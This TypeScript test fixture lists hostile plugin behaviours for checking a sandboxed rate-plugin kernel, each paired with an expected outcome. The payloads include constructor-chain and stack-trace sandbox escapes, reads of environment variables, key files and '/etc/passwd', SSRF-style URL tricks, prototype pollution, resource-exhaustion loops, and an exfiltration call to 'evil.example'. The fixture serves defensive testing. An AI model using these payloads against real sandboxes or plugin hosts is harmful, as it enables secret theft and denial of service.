/** What a hostile plugin does, and how that ends. */
export interface Hostile {
  readonly name: string
  readonly call?: string
  readonly apply?: string
  /** The whole bundle, in place of a rate plugin with these. */
  readonly code?: string
  /**
   * `refused`: it is not loaded; `waits`: only the deadline of the kernel ends the call; `ends`: its cell dies and the call fails; `throws`: the call fails, the cell lives;
   * `answers`: the call ends well, and nothing that was tried worked.
   */
  readonly outcome: 'answers' | 'ends' | 'refused' | 'throws' | 'waits'
  /** In a page nothing bounds the memory that it takes. */
  readonly isUnboundedInPage?: true
  readonly uncontained: Uncontained
}

/**
 * How it ends in the process of the kernel: `contained` and `refused` harm nothing; `reaches`: it got what it looked for; `stops`: the process stands still, or
 * ends, or takes memory until it ends; `slows`: it may end well, but nothing bounds the work or the memory that it takes.
 */
export type Uncontained = 'contained' | 'reaches' | 'refused' | 'slows' | 'stops'

/** Runs each attempt; one that gives a value got somewhere. */
export const attempts = (...tries: string[]): string =>
  `const got = []
  for (const run of [${tries.map(text => `async () => ${text}`).join(', ')}]) {
    try { const value = await run(); if (value !== undefined && value !== null) got.push(String(value)) } catch {}
  }
  if (got.length > 0) throw new Error('GOT ' + got.join(' | '))`

/** Plugins that do what they must not, most of them by a rate plugin. `KEYFILE` stands for the path of a file with a secret, `PORT` for a server. */
export const HOSTILE: readonly Hostile[] = [
  { name: 'throws', call: "throw new Error('no')", outcome: 'throws', uncontained: 'contained' },
  { name: 'throws undefined', call: 'throw undefined', outcome: 'throws', uncontained: 'contained' },
  {
    name: 'throws a Proxy whose traps throw',
    call: 'throw new Proxy({}, { get() { throw 1 }, has() { throw 1 }, getPrototypeOf() { throw 1 } })',
    outcome: 'throws',
    uncontained: 'contained'
  },
  {
    name: 'throws an error of ten million letters',
    call: "throw new Error('x'.repeat(1e7))",
    outcome: 'throws',
    uncontained: 'contained'
  },
  {
    name: 'throws a coded error with lying details',
    call: "throw Object.assign(new Error('x'), { code: 'PASSWORD', details: { waitSeconds: { a: [1] } } })",
    outcome: 'throws',
    uncontained: 'contained'
  },
  {
    name: 'throws when it is loaded',
    code: "throw new Error('no')",
    outcome: 'refused',
    uncontained: 'refused'
  },
  { name: 'is no JavaScript', code: 'definePlugin({', outcome: 'refused', uncontained: 'refused' },
  { name: 'never ends loading', code: 'for (;;);', outcome: 'refused', uncontained: 'stops' },
  {
    name: 'never says what it is',
    code: 'definePlugin(new Promise(() => {}))',
    outcome: 'refused',
    uncontained: 'refused'
  },
  {
    name: 'is another kind than it asked for',
    code: "definePlugin({ kind: 'currency', id: 'bad', apply() {} })",
    outcome: 'refused',
    uncontained: 'refused'
  },
  {
    name: 'has the id of another',
    code: "definePlugin({ kind: 'rates', id: 'honest', apply() {} })",
    outcome: 'refused',
    uncontained: 'refused'
  },
  {
    name: 'gives its id by a getter that changes',
    code: "let n = 0; definePlugin({ kind: 'rates', get id() { return n++ ? 'bad' : 'honest' }, apply() {} })",
    outcome: 'refused',
    uncontained: 'refused'
  },
  { name: 'spins in a call', call: 'for (;;);', outcome: 'ends', uncontained: 'stops' },
  {
    name: 'spins in a timer',
    call: 'await new Promise(() => setTimeout(() => { for (;;); }, 1))',
    outcome: 'ends',
    uncontained: 'stops'
  },
  {
    name: 'spins in microtasks',
    call: 'await new Promise(() => { const spin = () => { Promise.resolve().then(spin) }; spin() })',
    outcome: 'ends',
    uncontained: 'stops'
  },
  {
    name: 'spins through timers of no length',
    call: 'await new Promise(() => { const spin = () => { setTimeout(spin, 0); const end = Date.now() + 50; while (Date.now() < end); }; for (let n = 0; n < 500; n++) spin() })',
    outcome: 'ends',
    uncontained: 'stops'
  },
  {
    name: 'matches a pattern that never ends',
    call: "/^(a+)+$/.test('a'.repeat(40) + '!')",
    outcome: 'ends',
    uncontained: 'stops'
  },
  {
    name: 'squares a number without end',
    call: 'let n = 3n; for (;;) n = n * n',
    outcome: 'ends',
    uncontained: 'stops'
  },
  {
    name: 'recurses without end',
    call: 'const f = () => f() + 1; f()',
    outcome: 'throws',
    uncontained: 'contained'
  },
  {
    name: 'overflows the stack within a function of the host',
    call: `const f = () => { try { f() } catch { log.info('deep'); io.clock.now() } }; ${attempts('f()')}`,
    outcome: 'answers',
    uncontained: 'contained'
  },
  {
    name: 'floods the kernel with offers',
    call: 'for (;;) offer(wanted[0], 1)',
    outcome: 'ends',
    uncontained: 'stops'
  },
  {
    name: 'floods the log',
    call: "for (let n = 0; n < 1e6; n++) console.log('x'.repeat(500))",
    outcome: 'ends',
    uncontained: 'slows'
  },
  {
    name: 'floods with requests',
    call: "for (let n = 0; n < 1e6; n++) io.fetch('https://a.example/').catch(() => {})",
    outcome: 'ends',
    uncontained: 'slows'
  },
  {
    name: 'answers with a hundred megabytes',
    call: "offer({ fromCurrency: 'x'.repeat(1e8), toCurrency: 'y' }, 1)",
    outcome: 'ends',
    uncontained: 'slows'
  },
  {
    name: 'nests an answer a thousand deep',
    call: 'let pair = {}; for (let n = 0; n < 1000; n++) pair = { pair }; offer(pair, 1)',
    outcome: 'throws',
    uncontained: 'contained'
  },
  {
    name: 'gives an object with a million fields',
    call: 'const pair = {}; for (let n = 0; n < 1e6; n++) pair["f" + n] = n; offer(pair, 1)',
    outcome: 'ends',
    uncontained: 'slows'
  },
  {
    name: 'gives toJSON that gives itself',
    call: 'const pair = { toJSON: () => pair }; offer(pair, 1)',
    outcome: 'throws',
    uncontained: 'contained'
  },
  {
    name: 'eats memory with small objects',
    call: 'const all = []; for (;;) all.push({ n: all.length })',
    outcome: 'ends',
    uncontained: 'stops'
  },
  {
    name: 'eats memory with one long list',
    call: 'new Array(2 ** 27).fill(0); await new Promise(() => {})',
    outcome: 'ends',
    uncontained: 'stops',
    isUnboundedInPage: true
  },
  {
    name: 'eats memory with bytes',
    call: 'const all = []; for (;;) all.push(new Uint8Array(1e7).fill(1))',
    outcome: 'ends',
    uncontained: 'stops',
    isUnboundedInPage: true
  },
  {
    name: 'eats memory with bytes between calls',
    call: 'await new Promise(() => { const all = []; const eat = () => { all.push(new Uint8Array(1e8).fill(1)); setTimeout(eat, 30) }; eat() })',
    outcome: 'ends',
    uncontained: 'slows',
    isUnboundedInPage: true
  },
  {
    name: 'eats memory with text',
    call: "let text = 'x'; const all = []; for (;;) { text += text; all.push(text.replace(/y/g, '')); if (text.length > 1e8) text = 'x' + all.length }",
    outcome: 'ends',
    uncontained: 'stops',
    isUnboundedInPage: true
  },
  {
    name: 'fills its disk',
    call: "for (let n = 0; n < 1e5; n++) await disk.setText('f' + n, 'x'.repeat(1e6))",
    outcome: 'throws',
    uncontained: 'contained'
  },
  {
    name: 'writes outside of its disk',
    call: attempts(
      "disk.setText('../../evil', 'x').then(() => 1)",
      "disk.getText('../honest/secret')",
      "disk.getText('/etc/passwd')",
      "disk.list('..').then(list => list[0])"
    ),
    outcome: 'answers',
    uncontained: 'contained'
  },
  {
    name: 'exits',
    call: attempts('process.exit(1)', 'globalThis.process', "globalThis['pro' + 'cess']"),
    outcome: 'answers',
    uncontained: 'stops'
  },
  {
    name: 'reads the environment',
    call: attempts(
      'process.env.HOLDFAST_CANARY',
      'globalThis.process.env',
      'globalThis.Deno',
      'globalThis.Bun'
    ),
    outcome: 'answers',
    uncontained: 'reaches'
  },
  {
    name: 'reads a file',
    call: attempts(
      "require('fs').readFileSync(KEYFILE, 'utf8')",
      `globalThis.process.binding('fs')`,
      `globalThis.process.getBuiltinModule('fs')`
    ),
    outcome: 'answers',
    uncontained: 'reaches'
  },
  {
    name: 'imports a module',
    call: attempts("import('node:fs').then(fs => typeof fs.readFileSync)"),
    outcome: 'refused',
    uncontained: 'reaches'
  },
  {
    name: 'hides an import behind a comment',
    call: attempts("import/* */('node:fs').then(fs => typeof fs.readFileSync)"),
    outcome: 'refused',
    uncontained: 'reaches'
  },
  {
    name: 'makes code of a text',
    call: attempts(
      "eval('1')",
      "new Function('return 1')()",
      "(() => {}).constructor('return process')()",
      "(async () => {}).constructor('return 1')()",
      "(function* () {}).constructor('return 1')().next().value",
      "(async function* () {}).constructor('return 1')()",
      "setTimeout('1', 1)",
      "globalThis.constructor.constructor('return process')()",
      "Reflect.construct(Function, ['return 1'])()"
    ),
    outcome: 'answers',
    uncontained: 'reaches'
  },
  {
    name: 'loads machine code',
    call: attempts(
      'WebAssembly',
      'SharedArrayBuffer',
      'Atomics',
      'new WebAssembly.Module(new Uint8Array(8))'
    ),
    outcome: 'answers',
    uncontained: 'reaches'
  },
  {
    name: 'climbs out by a function of the host',
    call: attempts(
      "io.fetch.constructor('return process')()",
      "log.info.constructor.constructor('return process')()",
      "hooks.constructor.constructor('return process')()",
      "signal.addEventListener.constructor('return process')()",
      'offer.caller',
      'arguments.callee.caller',
      "console.log.constructor('return this')().process"
    ),
    outcome: 'answers',
    uncontained: 'reaches'
  },
  {
    name: 'climbs out by an error of the host',
    call: attempts(
      "io.fetch(Symbol()).catch(e => e.constructor.constructor('return process')())",
      "disk.getText(null).catch(e => e.constructor.constructor('return process')().env)",
      'io.crypto.sha256(1)',
      "new Error().stack.constructor.constructor('return process')()"
    ),
    outcome: 'answers',
    uncontained: 'reaches'
  },
  {
    name: 'climbs out by the stack',
    call: attempts(
      '(() => { Error.prepareStackTrace = (_, sites) => sites; return new Error().stack[0].getThis() })()',
      "(() => { const o = {}; Error.captureStackTrace(o); return typeof o.stack === 'string' ? null : o.stack })()"
    ),
    outcome: 'answers',
    uncontained: 'reaches'
  },
  {
    name: 'reaches the network',
    call: attempts(
      'fetch',
      'XMLHttpRequest',
      'WebSocket',
      'new EventSource("http://127.0.0.1")',
      'navigator.sendBeacon',
      'importScripts',
      'postMessage',
      'Worker'
    ),
    outcome: 'answers',
    uncontained: 'reaches'
  },
  {
    name: 'sends to a server that it did not ask for',
    call: attempts(
      "io.fetch('http://127.0.0.1:PORT/')",
      "io.fetch('http://localhost:PORT/')",
      "io.fetch('https://allowed.example:PORT/')",
      "io.fetch('https://allowed.example@127.0.0.1:PORT/')",
      "io.fetch('http://allowed.example/')",
      "io.fetch('file:///etc/passwd')",
      "io.fetch('https://allowed.example.evil.example/')",
      "io.fetch('data:,x')"
    ),
    outcome: 'answers',
    uncontained: 'reaches'
  },
  {
    name: 'changes the prototypes',
    apply:
      "try { Object.prototype.polluted = 'x' } catch {} try { Array.prototype.map = () => ['x'] } catch {} try { JSON.stringify = () => '{}' } catch {} try { Promise.prototype.then = () => {} } catch {} try { globalThis.Map = 1 } catch {} try { Object.defineProperty(Object.prototype, 'toJSON', { value: () => 1 }) } catch {}",
    call: attempts(
      '({}).polluted',
      'JSON.stringify({ a: 1 }) === `{"a":1}` ? null : 1',
      '[1].map(x => x)[0] === 1 ? null : 1',
      'typeof Map === "function" ? null : 1'
    ),
    outcome: 'answers',
    uncontained: 'stops'
  },
  {
    name: 'pollutes the kernel by names of fields',
    call: `offer(JSON.parse('{"__proto__":{"polluted":1},"fromCurrency":"A","toCurrency":"B"}'), 1); offer({ constructor: { prototype: { polluted: 1 } } }, 1)`,
    outcome: 'answers',
    uncontained: 'contained'
  },
  {
    name: 'gives a price by a getter that changes',
    call: 'let n = 0; offer({ get fromCurrency() { return n++ ? "EVIL" : "BTC" }, toCurrency: "iso:USD" }, 1)',
    outcome: 'answers',
    uncontained: 'contained'
  },
  {
    name: 'gives a number that is none',
    call: 'offer(wanted[0], NaN); offer(wanted[0], Infinity); offer(wanted[0], { valueOf: () => 1 })',
    outcome: 'answers',
    uncontained: 'contained'
  },
  { name: 'gives a BigInt', call: 'offer(wanted[0], 1n)', outcome: 'throws', uncontained: 'contained' },
  {
    name: 'calls after its call has ended',
    call: 'setTimeout(() => { for (let n = 0; n < 10; n++) offer(wanted[0], 1) }, 1)',
    outcome: 'answers',
    uncontained: 'contained'
  },
  {
    name: 'keeps what it saw and sends it later',
    call: "globalThis.kept = [...(globalThis.kept ?? []), wanted]; await io.fetch('https://evil.example/?' + JSON.stringify(globalThis.kept)).catch(() => {})",
    outcome: 'answers',
    uncontained: 'contained'
  },
  {
    name: 'leaves a rejection that nobody handles',
    call: "Promise.reject(new Error('late'))",
    outcome: 'answers',
    uncontained: 'stops'
  },
  {
    name: 'rejects with what cannot be read',
    call: "Promise.reject(new Proxy({}, { get() { throw new Error('x') } }))",
    outcome: 'answers',
    uncontained: 'stops'
  },
  {
    name: 'gives a thenable that never answers',
    call: 'signal.addEventListener("abort", () => {}); return { then() {} }',
    outcome: 'waits',
    uncontained: 'contained'
  },
  {
    name: 'waits with a million timers',
    call: 'for (let n = 0; n < 1e6; n++) io.clock.after(1e6, () => {})',
    outcome: 'ends',
    uncontained: 'slows'
  },
  {
    name: 'imitates answers of the kernel',
    call: 'postMessage; ',
    outcome: 'throws',
    uncontained: 'contained'
  },
  {
    name: 'taps a hook of another kind',
    apply: 'hooks.beforeSign.tapPromise("bad", async () => {})',
    call: '',
    outcome: 'refused',
    uncontained: 'refused'
  },
  {
    name: 'asks for keys of another',
    apply: 'host.getKeys()',
    call: '',
    outcome: 'refused',
    uncontained: 'refused'
  }
]
